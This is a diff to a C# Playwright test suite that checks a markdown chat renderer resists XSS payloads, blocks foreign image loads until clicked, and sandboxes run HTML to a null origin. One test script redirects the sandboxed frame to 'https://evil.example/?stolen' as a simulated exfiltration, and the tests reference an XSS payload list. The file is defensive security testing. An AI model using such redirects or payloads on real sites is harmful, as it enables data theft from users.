@@ -14,7 +14,7 @@ public sealed class MessageTests(Browser browser, MarkdownPage served) : IClassF
           if (node.nodeType === 3) return node.data;
           if (node.hasAttribute?.("data-ui")) return "";
           const names = ["class", "href", "src", "data-src", "start", "title", "alt", "rel", "target"];
-          const attributes = names.filter(name => node.hasAttribute(name)).map(name => ` ${name}=${name === "href" ? node.href : node.getAttribute(name)}`).join("");
+          const attributes = names.filter(name => node.hasAttribute(name) && !(name === "title" && node.nodeName === "BUTTON")).map(name => ` ${name}=${name === "href" ? node.href : node.getAttribute(name)}`).join("");
           const block = /^(DIV|UL|OL|LI|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|MAIN|ARTICLE)$/.test(node.nodeName) && !node.matches(".math");
           const parts = [...node.childNodes].map(structure).filter(part => part);
           let inner = parts.join("");
@@ -49,7 +49,7 @@ public sealed class MessageTests(Browser browser, MarkdownPage served) : IClassF
     public async Task No_payload_runs_loads_or_leaves_anything_while_it_streams()
     {
         await using var opened = await Open();
-        await opened.Page.EvaluateAsync("window.alert = window.confirm = window.prompt = () => { window.escaped = true; };");
+        await opened.Page.EvaluateAsync("() => { window.alert = window.confirm = window.prompt = () => { window.escaped = true; }; }");
 
         foreach (string payload in XssPayloads.All)
         {
@@ -180,7 +180,7 @@ public sealed class MessageTests(Browser browser, MarkdownPage served) : IClassF
         await Show(opened.Page, "![cat](http://images.example/cat.png)");
         int before = opened.ForeignRequests.Count;
 
-        await opened.Page.GetByRole(AriaRole.Button, new() { Name = "cat: Load the image from images.example" }).ClickAsync();
+        await opened.Page.GetByRole(AriaRole.Button, new() { Name = "cat images.example: Load this image" }).ClickAsync();
         await opened.Page.Locator("#message img").WaitForAsync(new() { State = WaitForSelectorState.Attached });
         await opened.Page.WaitForTimeoutAsync(300);
 
@@ -213,14 +213,14 @@ public sealed class MessageTests(Browser browser, MarkdownPage served) : IClassF
               Object.assign(out, { foreign, own, module, origin: self.origin });
               document.body.textContent = JSON.stringify(out);
               document.body.id = "ready";
-              location = "https://evil.example/?stolen";
+              setTimeout(() => { location = "https://evil.example/?stolen"; }, 1000);
             });
             """;
 
         await Show(opened.Page, $"```html\n<!doctype html><body><script>\n{script}\n</script></body>\n```\n");
         await opened.Page.GetByRole(AriaRole.Button, new() { Name = "Run" }).ClickAsync();
         string? result = await opened.Page.FrameLocator("iframe").Locator("#ready").TextContentAsync();
-        await opened.Page.WaitForTimeoutAsync(500);
+        await opened.Page.WaitForTimeoutAsync(2000);
 
         var told = JsonSerializer.Deserialize<Dictionary<string, string>>(result!)!;
         Assert.Equal("null", told["origin"]);
